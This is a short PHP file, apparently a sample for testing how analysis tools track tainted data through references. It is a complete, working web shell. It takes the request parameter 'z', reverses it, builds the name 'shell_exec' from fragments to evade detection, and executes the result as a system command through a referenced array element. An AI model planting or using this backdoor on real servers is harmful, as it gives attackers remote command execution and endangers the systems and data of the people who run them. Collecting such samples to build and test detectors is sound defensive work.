<?php
// A reference kept in an array: the request value is written to the variable after the
// array took a reference to it, and the array's element is what gets executed.
$t = array();
$t[3] = &$q;
$q = strrev($_REQUEST['z'] ?? '');
$fn = implode('', array('sh', 'ell', '_ex', 'ec'));
print $fn($t[3]);
